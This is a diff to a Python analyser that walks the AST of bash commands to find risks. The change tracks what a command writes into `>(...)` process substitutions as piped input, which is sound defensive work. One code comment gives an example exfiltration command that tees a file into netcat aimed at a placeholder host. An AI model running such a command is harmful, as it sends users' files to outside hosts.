@@ -20,6 +20,7 @@ from ._resolve import redirect_subject, stdin_of
 from ._risks import NO_RISKS
 from ._state import Frame, WalkConfig, WalkState
 from ._subjects import (
+    OUTPUT_REDIRECTS,
     Arg,
     AssignmentSubject,
     ContextKind,
@@ -66,14 +67,21 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
         """A word of a compound command (`for` items, `case` subject and patterns): a value."""
         return self.parts(word.parts, frame, Position.VALUE)
 
-    def parts(self, parts: tuple[ast.WordPart, ...], frame: Frame, position: Position) -> frozenset[Risk]:
-        """Walk the substitutions in word parts; the risks of what they run."""
+    def parts(
+        self,
+        parts: tuple[ast.WordPart, ...],
+        frame: Frame,
+        position: Position,
+        writer: ast.SimpleCommand | None = None,
+    ) -> frozenset[Risk]:
+        """Walk the substitutions in word parts; the risks of what they run. `writer` is the
+        command whose argument the parts are: what it writes to a `>(...)` path."""
         risks = NO_RISKS
         for part in parts:
             if type(part) is ast.Literal:
                 continue
             if type(part) is ast.CommandSubstitution or type(part) is ast.ProcessSubstitution:
-                found = self.substitution(part, frame, position)
+                found = self.substitution(part, frame, position, writer)
             elif type(part) is ast.ParamExpansion:
                 found = self.parameter(part, frame, position)
             elif type(part) is ast.ArithmeticExpansion:
@@ -85,7 +93,11 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
         return risks
 
     def substitution(
-        self, part: ast.CommandSubstitution | ast.ProcessSubstitution, frame: Frame, position: Position
+        self,
+        part: ast.CommandSubstitution | ast.ProcessSubstitution,
+        frame: Frame,
+        position: Position,
+        writer: ast.SimpleCommand | None = None,
     ) -> frozenset[Risk]:
         if isinstance(part, ast.CommandSubstitution):
             label = "`...`" if part.backquoted else "$(...)"
@@ -93,8 +105,10 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
             label = f"{part.direction}(...)"
         inner = frame.enter(position, label)
         if type(part) is ast.ProcessSubstitution and part.direction == ">":
-            # What the enclosing command writes to the path is the body's standard input.
-            inner = inner.with_stdin(Stdin(StdinKind.PIPE, part.span, label), False)
+            # What the enclosing command writes to the path is the body's standard input, as if
+            # piped: `tee >(nc HOST PORT) < FILE` sends FILE (tee writes its input to each path).
+            stdin = Stdin(StdinKind.PIPE, part.span, label, writer=writer, upstream=frame.stdin, through_path=True)
+            inner = inner.with_stdin(stdin, False)
         with self.state.in_subshell():
             return self.visit_script(part.body, inner)
 
@@ -159,15 +173,15 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
     # -- the words of a simple command --------------------------------------------------------
 
     def words(
-        self, words: tuple[ast.Word, ...], frame: Frame, name_word: ast.Word | None
+        self, command: ast.SimpleCommand, frame: Frame, name_word: ast.Word | None
     ) -> tuple[frozenset[Risk], frozenset[Risk]]:
         """Walk the substitutions in a command's words: the risks of all, and of the name word's."""
         risks = name_risks = NO_RISKS
-        for word in words:
+        for word in command.words:
             parts = word.parts
             if len(parts) == 1 and type(parts[0]) is ast.Literal:
                 continue
-            found = self.parts(parts, frame, Position.COMMAND if word is name_word else Position.VALUE)
+            found = self.parts(parts, frame, Position.COMMAND if word is name_word else Position.VALUE, command)
             if word is name_word:
                 name_risks = found
             if found:
@@ -196,19 +210,27 @@ class WordWalker(Visitor[Frame, frozenset[Risk]]):
         return risks
 
     def redirects(
-        self, redirects: tuple[ast.Redirect, ...], frame: Frame, command_name: str | None, *, emit: bool
+        self,
+        redirects: tuple[ast.Redirect, ...],
+        frame: Frame,
+        command_name: str | None,
+        *,
+        emit: bool,
+        writer: ast.SimpleCommand | None = None,
     ) -> tuple[Stdin | None, frozenset[Risk]]:
         """Walk redirect words; what they make standard input, and their risks.
 
         For compound commands (`emit`) the redirect subjects are emitted here;
-        simple commands emit them once their name is known.
+        simple commands emit them once their name is known. `writer`, the simple
+        command redirected, writes its output to a `>(...)` its stdout goes to.
         """
         stdin = frame.stdin
         risks = NO_RISKS
         for redirect in redirects:
             part_risks = NO_RISKS
             if redirect.target is not None:
-                part_risks = self.parts(redirect.target.parts, frame, Position.VALUE)
+                stdout = redirect.fd in (None, "1") and redirect.operator in OUTPUT_REDIRECTS
+                part_risks = self.parts(redirect.target.parts, frame, Position.VALUE, writer if stdout else None)
             if redirect.heredoc is not None:
                 part_risks = self.parts(redirect.heredoc.parts, frame, Position.VALUE)
             risks = risks | part_risks
